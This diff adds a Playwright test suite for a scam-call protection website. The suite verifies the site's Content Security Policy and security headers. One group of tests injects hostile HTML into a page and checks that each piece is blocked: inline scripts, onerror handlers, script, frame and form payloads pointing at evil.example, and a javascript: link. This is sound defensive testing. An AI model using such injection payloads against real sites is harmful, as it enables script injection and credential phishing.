@@ -1,0 +1,199 @@
+import { type Page } from '@playwright/test'
+import { lostPages, onePageOfEachKind, pages } from './pages'
+import { expect, test, waitForReact } from './test'
+
+/** Keeps what the policy refuses, and says it in the console, where an error fails the test. */
+async function watchPolicy(page: Page): Promise<string[]> {
+  const refused: string[] = []
+  await page.exposeFunction('keepRefused', (what: string) => refused.push(what))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const { effectiveDirective, blockedURI, sample } = event
+      const { keepRefused } = window as unknown as { keepRefused: (what: string) => void }
+      keepRefused(effectiveDirective)
+      console.error(`Refused by the policy: ${effectiveDirective} ${blockedURI} ${sample}`)
+    })
+  })
+  return refused
+}
+
+test.describe('row 23: the policy refuses nothing that the site needs', () => {
+  test('on every page, before and after React, on screen and on paper', async ({ page }) => {
+    test.setTimeout(300_000)
+    const refused = await watchPolicy(page)
+    for (const path of pages) {
+      await page.goto(path)
+      await page.keyboard.press('Tab')
+      await waitForReact(page)
+      await page.emulateMedia({ media: 'print' })
+      await page.emulateMedia({ media: 'screen' })
+      expect(refused, path).toEqual([])
+    }
+  })
+
+  test.describe('where there is no page', () => {
+    test.use({ allowedError: /404/ })
+    test('before and after React', async ({ page }) => {
+      const refused = await watchPolicy(page)
+      for (const { path } of lostPages) {
+        await page.goto(path)
+        await page.keyboard.press('Tab')
+        await waitForReact(page)
+        expect(refused, path).toEqual([])
+      }
+    })
+  })
+
+  test('from page to page without a reload', async ({ page }) => {
+    test.setTimeout(120_000)
+    const refused = await watchPolicy(page)
+    await page.goto('/')
+    await page.keyboard.press('Tab')
+    await waitForReact(page)
+    await page.evaluate(() => Object.assign(window, { sameDocument: true }))
+    for (const path of onePageOfEachKind) {
+      await page.evaluate(
+        (to) => (window as unknown as { ___navigate: (to: string) => void }).___navigate(to),
+        path,
+      )
+      await page.waitForURL((url) => url.pathname === path)
+      await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1)
+      await page.waitForLoadState('networkidle')
+    }
+    expect(await page.evaluate(() => 'sameDocument' in window)).toBe(true)
+    expect(refused).toEqual([])
+  })
+
+  test('in both forms, in the search with its worker, and in a printed article', async ({
+    page,
+    browserName,
+  }) => {
+    test.setTimeout(120_000)
+    const refused = await watchPolicy(page)
+    await page.goto('/contact')
+    await page.getByRole('textbox', { name: /name/i }).first().fill(`Policy ${browserName}`)
+    await page.getByRole('textbox', { name: /phone/i }).first().fill('(904) 555-0100')
+    const sent = page.waitForResponse((response) => response.request().method() === 'POST')
+    await page.locator('main form[data-reads-query] [type=submit]').click()
+    expect((await sent).ok()).toBe(true)
+
+    await page.goto('/blog')
+    await page.locator('#newsletter-email').fill('june@example.com')
+    await page.locator('form:has(#newsletter-email) [type=submit]').click()
+    await page.getByRole('searchbox').fill('scam')
+    await expect(page.getByText(/articles? .*scam/i).first()).toBeVisible()
+
+    await page.goto('/blog/scam-likely-phone-call-protection')
+    expect((await page.pdf()).length).toBeGreaterThan(10_000)
+    expect(refused).toEqual([])
+  })
+
+  test('where a form is posted without JavaScript', async ({ browser }) => {
+    const context = await browser.newContext({ javaScriptEnabled: false })
+    const page = await context.newPage()
+    await page.goto('/contact')
+    await page.locator('[name=name]').fill('Policy without script')
+    await page.locator('[name=phone]').fill('(904) 555-0100')
+    await page.locator('main form[data-reads-query] [type=submit]').click()
+    await expect(page.getByRole('heading', { name: 'Thank you. It was received.' })).toBeVisible()
+    await context.close()
+  })
+})
+
+test.describe('row 24: what is put into a page by others', () => {
+  // React draws the page anew when it finds it changed, and says so.
+  test.use({ allowedError: /policy|violat|refused|none\.png|Minified React error/i })
+
+  /** Opens a page as somebody has changed it on the way, with its own headers. */
+  async function openChanged(page: Page, evil: string): Promise<void> {
+    await page.route('**/faq', async (route) => {
+      const response = await route.fetch()
+      const body = (await response.text()).replace('</main>', `${evil}</main>`)
+      expect(body).toContain(evil)
+      await route.fulfill({ status: 200, headers: response.headers(), body })
+    })
+    await page.goto('/faq')
+  }
+
+  const scripts = [
+    ['an inline script', '<script>window.evil = true</script>', 'script-src-elem'],
+    ['an event handler', '<img src="/none.png" onerror="window.evil = true">', 'script-src-attr'],
+    ['a script of others', '<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
+    ['a script as data', '<script src="data:,window.evil=true"></script>', 'script-src-elem'],
+    ['a frame', '<iframe srcdoc="<script>top.evil = true</script>"></iframe>', 'script-src-elem'],
+    ['a frame of others', '<iframe src="https://evil.example"></iframe>', 'frame-src'],
+    ['a plug-in', '<object data="https://evil.example/x.swf"></object>', 'object-src'],
+    ['a picture of others', '<img src="https://evil.example/x.png">', 'img-src'],
+    ['a style attribute', '<p style="position: fixed">Pay here</p>', 'style-src-attr'],
+    ['another base', '<base href="https://evil.example/">', 'base-uri'],
+    [
+      'a style sheet of others',
+      '<link rel=stylesheet href="https://evil.example/x.css">',
+      'style-src-elem',
+    ],
+  ] as const
+  for (const [name, evil, directive] of scripts) {
+    test(`${name} is blocked`, async ({ page }) => {
+      const refused = await watchPolicy(page)
+      await openChanged(page, evil)
+      await expect.poll(() => refused).toContain(directive)
+      expect(await page.evaluate(() => 'evil' in window)).toBe(false)
+    })
+  }
+
+  test('a form that leads elsewhere, and data sent elsewhere, are blocked', async ({ page }) => {
+    const refused = await watchPolicy(page)
+    const evil = '<form action="https://evil.example/"><button id="fake">Log in</button></form>'
+    await openChanged(page, evil)
+    // As a script of others would: without asking React.
+    await page.locator('form:has(#fake)').evaluate((form: HTMLFormElement) => form.submit())
+    await expect.poll(() => refused).toContain('form-action')
+    await page.evaluate(() => fetch('https://evil.example/').catch(() => undefined))
+    await expect.poll(() => refused).toContain('connect-src')
+    await expect(page).toHaveURL(/\/faq$/)
+  })
+
+  test('a link that is a program does nothing', async ({ page }) => {
+    const refused = await watchPolicy(page)
+    await openChanged(page, '<a id="bait" href="javascript:window.evil = true">Click</a>')
+    await page.locator('#bait').click()
+    await expect.poll(() => refused).toContain('script-src-elem')
+    expect(await page.evaluate(() => 'evil' in window)).toBe(false)
+  })
+})
+
+test.describe('row 26: the headers of the site', () => {
+  const set = [
+    'content-security-policy',
+    'cross-origin-opener-policy',
+    'cross-origin-resource-policy',
+    'permissions-policy',
+    'referrer-policy',
+    'strict-transport-security',
+    'x-content-type-options',
+    'x-frame-options',
+  ]
+
+  test('are the same on a page, a file, a redirect and where there is nothing', async ({
+    request,
+  }) => {
+    const pick = async (path: string, status: number): Promise<unknown> => {
+      const response = await request.get(path, { maxRedirects: 0 })
+      expect(response.status(), path).toBe(status)
+      const headers = response.headers()
+      return set.map((name) => [name, headers[name]])
+    }
+    const home = await pick('/', 200)
+    for (const [path, status] of [
+      ['/blog', 200],
+      ['/rss.xml', 200],
+      ['/guides/signs-of-a-scam-call.pdf', 200],
+      ['/privacy/', 301],
+      ['/no-such-page', 404],
+      ['/blog/no-such-article', 404],
+    ] as const) {
+      expect(await pick(path, status), path).toEqual(home)
+    }
+    expect(home).not.toContainEqual([expect.anything(), undefined])
+  })
+})
